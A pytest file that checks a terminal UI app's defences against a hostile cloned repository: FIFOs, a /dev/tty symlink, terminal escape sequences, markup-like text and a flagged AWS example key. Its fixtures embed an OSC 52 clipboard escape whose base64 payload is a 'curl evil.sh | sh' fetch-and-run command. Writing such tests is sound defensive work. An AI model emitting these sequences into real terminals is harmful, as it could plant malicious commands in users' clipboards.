"""The app on hostile clones, driven with Pilot: a FIFO never blocks it and ``q`` / ``ctrl+q``
always quit; control sequences in story files and agent output are shown visibly; markup-like
text (``[/x]``) in a status or a failure reason is shown as text; flagged secrets are marked
and need a second confirmation."""

from __future__ import annotations

import html
import os
import sys
from pathlib import Path

import pytest
from app_helpers import make_app, run_async, wait_for, wait_for_preview
from hostile._read_helpers import ARTIFACTS, PLANNING, has_terminal_controls, make_cloned
from promptdeck.core.project.trust import trust_config
from promptdeck.core.project.workspace import open_workspace
from promptdeck.tui.screens.confirm_run import ConfirmRunScreen
from promptdeck.tui.screens.main import MainScreen
from promptdeck.tui.widgets.files_table import FilesTable
from promptdeck.tui.widgets.phase_panel import PhaseLog
from textual.widgets import Button

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\"
STORY = (
    f"# Story 1.1: Parse {OSC52}rows \x9b2J [/x]\n\nStatus: [/x]\n\n## Tasks / Subtasks\n\n"
    "- [ ] Task \x1b[2J [/x]\n"
)
AGENT = """\
import sys
sys.stdout.write("working \\x1b]52;c;c2VjcmV0\\x07 on it \\x9b31m [/x]\\n")
sys.stdout.write("IMPLEMENTATION BLOCKED: 1-1 - the [/x] parser \\x1b]0;t\\x07 broke\\n")
"""


@pytest.fixture(autouse=True)
def _isolated_user_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))


def _screen_text(app) -> str:  # type: ignore[no-untyped-def]
    # The screen as the terminal would get it, entities decoded (an escaped ESC counts too).
    return html.unescape(str(app.export_screenshot())).replace("\xa0", " ")


@pytest.mark.parametrize("quit_key", ["q", "ctrl+q"])
@run_async
async def test_fifos_never_block_the_app_and_quit_always_works(
    tmp_path: Path, quit_key: str
) -> None:
    hostile = make_cloned(tmp_path, {}, symlinks={f"{ARTIFACTS}/1-3-tty.md": "/dev/tty"})
    for rel in (f"{ARTIFACTS}/sprint-status.yaml", f"{PLANNING}/epics.md"):
        (hostile.root / rel).unlink()
        os.mkfifo(hostile.root / rel)
    app = make_app(hostile.root)
    async with app.run_test(size=(160, 45)) as pilot:
        screen = await wait_for_preview(pilot, "1-1")
        assert screen.catalog is not None
        skipped = {s.path: s.reason for s in screen.catalog.skipped}
        assert (
            skipped[f"{ARTIFACTS}/sprint-status.yaml"] == "unreadable: a FIFO, not a regular file"
        )
        await pilot.press(quit_key)
        await wait_for(pilot, lambda: app.return_code is not None, "the app to exit")


@run_async
async def test_escapes_markup_and_secrets_in_the_app(tmp_path: Path) -> None:
    hostile = make_cloned(
        tmp_path,
        {
            f"{ARTIFACTS}/sprint-status.yaml": "development_status:\n  1-1-parse-rows: '[/x]'\n",
            f"{ARTIFACTS}/1-1-parse-rows.md": STORY,
            f"{ARTIFACTS}/1-1-ops-notes.md": "# Ops\n\naws: AKIAIOSFODNN7EXAMPLE\n",
            "agent.py": AGENT,
            ".promptdeck/config.toml": (
                f'[agent]\ncommand_argv = ["{sys.executable}", "agent.py"]\n'
            ),
        },
        base=False,
    )
    trust_config(open_workspace(hostile.root))  # the user trusts the clone's agent
    app = make_app(hostile.root, agent="command", use_git=False)
    async with app.run_test(size=(160, 45)) as pilot:
        screen = await wait_for_preview(pilot, "1-1")
        await pilot.pause()
        shown = _screen_text(app)
        assert not has_terminal_controls(shown)
        assert "␛]52;c;" in shown
        # The warning quotes the '[/x]' status: kept as text among the session's notices (the
        # toast summarises them), no MarkupError.
        assert any("'[/x]'" in n.text for n in app.notices)

        files = screen.query_one(FilesTable).shown_files
        notes = next(f for f in files if f.path.endswith("1-1-ops-notes.md"))
        assert [(s.line, s.kind) for s in notes.secrets] == [(3, "AWS Access Key")]
        assert "⚠ secret" in shown and "AKIAIOSFODNN7EXAMPLE" not in shown

        while screen.phase != "dev":
            await pilot.press("right_square_bracket")
        screen = await wait_for_preview(pilot, "1-1")
        await pilot.press("r")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmRunScreen), "the question")
        confirm = app.screen
        assert isinstance(confirm, ConfirmRunScreen)
        assert confirm.plan.secrets == (f"{ARTIFACTS}/1-1-ops-notes.md:3: AWS Access Key",)
        await pilot.press("enter")
        await pilot.pause()
        # One Enter never sends a flagged secret: the second, explicit one does.
        assert app.screen is confirm and confirm.secrets_confirmed
        start = confirm.query_one("#start", Button)
        assert "send the secrets" in str(start.label)
        # A button ignores a press while its pressed effect shows: wait it out, as a user does.
        await wait_for(pilot, lambda: not start.has_class("-active"), "the button to settle")
        await pilot.press("enter")
        await wait_for(pilot, lambda: isinstance(app.screen, MainScreen), "the run to start")
        await wait_for(pilot, lambda: screen.last_result is not None, "the end of the run")
        result = screen.last_result
        assert result is not None and result.outcome == "failure" and "[/x]" in result.message
        await pilot.pause()
        lines = list(screen.query_one(PhaseLog).lines)
        assert any("working ␛]52;c;c2VjcmV0␇ on it \\x9b31m [/x]" in line for line in lines)
        assert not any(has_terminal_controls(line) for line in lines)
        shown = _screen_text(app)
        assert not has_terminal_controls(shown)
        await pilot.press("q")
        await wait_for(pilot, lambda: app.return_code is not None, "the app to exit")
